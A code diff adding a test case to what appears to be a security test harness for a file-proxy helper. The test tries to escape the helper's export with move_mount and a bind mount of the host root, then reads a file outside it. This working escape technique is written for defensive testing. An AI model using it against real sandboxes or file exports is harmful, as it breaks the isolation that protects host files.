@@ -47,6 +47,7 @@ internal static unsafe partial class Program
                 "xattr-security" => XattrSecurity(sock),
                 "stalled-connections" => StalledConnections(sock),
                 "foreign-peer" => ForeignPeer(sock),
+                "move-mount" => MoveMount(sock, Arg(args, 2, "MOUNTPOINT"), Arg(args, 3, "OUTSIDE-FILE"), uint.Parse(Arg(args, 4, "REAL-UID"))),
                 _ => (Setup, $"unknown attack {args[0]}"),
             };
             string prefix = rc == Hole ? "HOLE: " : rc == Setup ? "setup: " : args[0] == "socket-race" ? "race: " : "held: ";
@@ -469,6 +470,45 @@ internal static unsafe partial class Program
         }
         finally { foreach (int fd in fds) close(fd); }
     }
+
+
+    // 10. Run inside `unshare --user --map-root-user --mount` (the script does that): move the mount of a
+    // handed-out root directory fd into our own namespace (move_mount), bind the host's "/" onto a directory in
+    // it, and ask the helper for a file outside the export through that directory. Worked against a helper whose
+    // root was an open_tree(OPEN_TREE_CLONE) copy: that is an anonymous namespace, and any namespace admin may
+    // move its mounts.
+    private static (int, string) MoveMount(string sock, string mountpoint, string outsideFile, uint realUid)
+    {
+        using var c = ProxyClient.Connect(sock);
+        int r = c.Mkdir("a10-d"u8, 0x1ED, realUid, realUid);
+        if (r < 0 && r != -17) return (Setup, "T_MKDIR a10-d failed: " + Err(r));
+        r = c.Open("/"u8, O_DIRECTORY | O_RDONLY, out SafeFileHandle? root);
+        if (r < 0) return (Held, "T_OPEN / refused: " + Err(r));
+        using (root)
+        {
+            const int MOVE_MOUNT_F_EMPTY_PATH = 4, SYS_move_mount = 429;
+            fixed (byte* empty = Z(""))
+            fixed (byte* target = Z(mountpoint))
+            {
+                long m = (long)(ssize_t)syscall(SYS_move_mount, (int)root!.DangerousGetHandle(), empty, AT_FDCWD, target, MOVE_MOUNT_F_EMPTY_PATH);
+                if (m < 0) return (Held, $"move_mount of the handed-out root refused: errno {errno}");
+            }
+            fixed (byte* hostRoot = Z("/"))
+            fixed (byte* inside = Z(Path.Combine(mountpoint, "a10-d")))
+            {
+                const ulong MS_BIND = 0x1000, MS_REC = 0x4000;
+                if (mount(hostRoot, inside, null, MS_BIND | MS_REC, null) < 0)
+                    return (Held, $"moved, but bind of / inside failed: errno {Marshal.GetLastPInvokeError()}");
+            }
+        }
+        r = c.Open(Encoding.UTF8.GetBytes("a10-d" + outsideFile), O_RDONLY, out SafeFileHandle? leaked);
+        if (r < 0) return (Held, $"moved the helper's mount, but the outside file stayed out of reach: {Err(r)}");
+        leaked!.Dispose();
+        return (Hole, $"the helper opened {outsideFile} (outside the export) through a mount moved into our namespace");
+    }
+
+    [LibraryImport("libc", SetLastError = true)]
+    private static partial int mount(byte* source, byte* target, byte* fstype, ulong flags, void* data);
 
     // 9. Run with a uid that is neither root nor the configured one, but in the socket's group.
     private static (int, string) ForeignPeer(string sock)
